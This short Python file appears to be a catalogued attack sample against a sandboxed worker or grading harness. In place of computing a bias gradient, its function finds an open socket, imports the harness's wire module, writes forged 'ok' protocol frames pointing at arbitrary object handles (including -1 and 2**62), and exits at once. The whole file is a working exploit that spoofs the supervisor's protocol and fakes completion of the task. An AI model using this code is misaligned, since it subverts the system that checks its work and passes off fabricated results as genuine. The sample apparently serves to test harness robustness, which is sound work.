# Tries: answers with references to the handles of other objects
# Attacks: affine/bias-gradient
# Class: own
# %%
import os
import socket
import struct
import sys
import threading
import time

def sockets():
    for fd in range(3, 256):
        try:
            if os.path.exists(f"/dev/fd/{fd}") or os.fstat(fd).st_mode & 0o170000 == 0o140000:
                yield fd
        except OSError:
            pass

def wire():
    return next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))

def frame(value):
    payload = wire().encode(value)
    return b"AGW1" + struct.pack("!I", len(payload)) + payload

def bias_gradient(dY):
    (fd, *_) = sockets()
    for handle in (2, 3, -1, 2**62):
        os.write(fd, frame(([], ("ok", wire().Ref(handle)))))
    os._exit(0)
